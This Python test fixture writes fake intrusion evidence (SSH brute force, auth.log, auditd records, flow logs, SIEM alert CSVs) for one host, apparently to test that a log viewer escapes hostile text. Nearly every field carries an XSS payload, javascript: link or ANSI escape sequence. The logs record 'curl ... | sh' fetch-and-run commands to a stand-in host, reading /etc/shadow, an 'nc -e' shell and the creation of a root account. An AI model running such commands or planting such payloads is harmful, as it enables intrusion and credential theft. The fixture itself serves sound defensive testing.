"""Evidence of somebody who writes markup, script and escape codes wherever a log takes a text."""

from __future__ import annotations

import csv
import json
from pathlib import Path

__all__ = ["HOST", "MARKS", "write_hostile"]

MARKS = {
    "host": "<img/src=x/onerror=window.pwned=1>",
    "user": '<img src=x onerror="window.pwned=2">',
    "command": "<script>window.pwned=3</script>",
    "program": "<svg/onload=window.pwned=4>",
    "alert": "</script><script>window.pwned=5</script>",
    "file": '"><iframe srcdoc=x onload=window.pwned=6>',
    "markdown": "[here](javascript:window.pwned=7) ![](https://203.0.113.9/x.png) $$x$$",
    "ansi": "\x1b[31mred\x1b[0m\x1b]8;;https://203.0.113.9\x07link",
}
HOST = "web01" + MARKS["host"]
AUDITED = 1_773_281_650
"""2026-03-13 02:14:10 UTC."""


def _line(second: int, program: str, text: str) -> str:
    minute, second = divmod(second, 60)
    return f"2026-03-13T02:{minute:02}:{second:02}+00:00 {HOST} {program}: {text}\n"


def _hex(text: str) -> str:
    return text.encode().hex().upper()


def _ran(serial: int, pid: int, arguments: list[str]) -> str:
    stamp = f"msg=audit({AUDITED + serial}.100:{9_000 + serial}):"
    given = " ".join(f"a{i}={_hex(each)}" for i, each in enumerate(arguments))
    return (
        f"type=SYSCALL {stamp} arch=c000003e syscall=59 success=yes exit=0 items=0 ppid=900"
        f" pid={pid} auid=1000 uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=pts0"
        f" ses=7 comm={_hex(MARKS['program'][:15])} exe={_hex('/tmp/' + MARKS['file'])} key=(null)\n"
        f"type=EXECVE {stamp} argc={len(arguments)} {given}\n"
        f"type=CWD {stamp} cwd={_hex('/tmp/' + MARKS['command'])}\n"
        f"type=PROCTITLE {stamp} proctitle={_hex(' '.join(arguments))}\n"
    )


def write_hostile(folder: Path) -> Path:
    """Write the evidence: syslog, audit records, flows, alerts and a bookmark, all of one host."""
    (folder / "var").mkdir(parents=True)
    user, command = MARKS["user"], MARKS["command"]
    auth = [
        *(_line(i, "sshd[700]", f"Failed password for invalid user {user} from 203.0.113.9 port"
                f" {40_000 + i} ssh2") for i in range(0, 60, 2)),
        *(_line(i, "sshd[700]", f"Failed password for {user} from 203.0.113.9 port {41_000 + i} ssh2")
          for i in range(1, 60, 2)),
        _line(61, "sshd[800]", f"Accepted password for {user} from 203.0.113.9 port 42001 ssh2"),
        _line(61, "sshd[800]", "pam_unix(sshd:session): session opened for user"
              f" {user}(uid=1000) by (uid=0)"),
        _line(70, "sudo", f" eve{MARKS['host']} : TTY=pts/0 ; PWD=/tmp/{MARKS['file']} ; USER=root ;"
              f" COMMAND=/bin/sh -c curl -s http://203.0.113.9/{command} | sh # {MARKS['markdown']}"),
        _line(71, "useradd[901]", f"new user: name={user}, UID=0, GID=0, home=/x, shell=/bin/sh"),
        _line(72, "CRON[902]", f"(root) CMD (curl http://203.0.113.9/{command} | sh)"),
        _line(73, MARKS["program"] + "[903]", f"segfault {MARKS['markdown']} {MARKS['ansi']}"),
        _line(80, "sshd[800]", f"pam_unix(sshd:session): session closed for user {user}"),
    ]  # fmt: skip
    (folder / "var" / "auth.log").write_text("".join(auth))
    (folder / "var" / f"{MARKS['file']}.log").write_text(
        _line(90, "app[1]", f"{MARKS['alert']} {MARKS['ansi']}")
    )
    shell = ["/bin/sh", "-c", f"curl http://203.0.113.9/{command} | sh"]
    (folder / "var" / "audit.log").write_text(
        "".join(
            f"node={HOST} {line}\n"
            for pid, arguments in enumerate(
                (shell, ["cat", "/etc/shadow", MARKS["ansi"]], ["nc", MARKS["markdown"], "-e"]),
                1_000,
            )
            for line in _ran(pid - 1_000, pid, arguments).splitlines()
        )
    )
    flow = {"ts": AUDITED + 5.5, "uid": MARKS["command"], "id.orig_h": "10.0.0.5",
            "id.orig_p": 40_000, "id.resp_h": "203.0.113.9", "id.resp_p": 443, "proto": "tcp",
            "service": MARKS["program"], "duration": 1.5, "orig_bytes": 10, "resp_bytes": 20,
            "conn_state": "SF", "orig_pkts": 3, "resp_pkts": 4}  # fmt: skip
    (folder / "var" / "conn.log").write_text(
        "".join(json.dumps(flow | {"ts": flow["ts"] + 60 * i}) + "\n" for i in range(30))
    )
    entities = [
        {"$id": "1", "HostName": HOST, "Type": "host"},
        {"$id": "2", "Name": user, "Type": "account"},
        {"$id": "3", "Address": "203.0.113.9", "Type": "ip"},
        {"$id": "4", "Name": MARKS["file"], "CommandLine": command, "Type": "process"},
    ]
    alert = {
        "TimeGenerated": "2026-03-13T02:03:00Z", "DisplayName": MARKS["alert"],
        "AlertName": MARKS["alert"], "AlertSeverity": "High", "Description": MARKS["markdown"],
        "ProviderName": MARKS["alert"], "SystemAlertId": "a" + MARKS["user"],
        "StartTime": "2026-03-13T02:01:00Z", "EndTime": "2026-03-13T02:02:00Z",
        "Entities": json.dumps(entities), "ProductName": MARKS["alert"], "Status": "New",
        "CompromisedEntity": HOST, "Tactics": MARKS["alert"], "Techniques": '["T1110"]',
        "RemediationSteps": MARKS["markdown"], "ExtendedProperties": json.dumps({user: command}),
    }  # fmt: skip
    bookmark = {
        "TimeGenerated": "2026-03-13T02:05:00Z", "BookmarkId": "b1", "BookmarkName": MARKS["alert"],
        "CreatedBy": json.dumps({"Name": MARKS["user"]}), "EventTime": "2026-03-13T02:01:00Z",
        "QueryText": MARKS["command"], "QueryResultRow": json.dumps({"Computer": HOST}),
        "Notes": MARKS["markdown"], "Entities": json.dumps(entities), "SoftDeleted": "false",
        "Tags": json.dumps([MARKS["alert"]]),
    }  # fmt: skip
    for name, row in (("SecurityAlert", alert), ("HuntingBookmark", bookmark)):
        with (folder / f"{name}.csv").open("w", newline="") as out:
            writer = csv.DictWriter(out, list(row))
            writer.writeheader()
            writer.writerow(row)
    return folder
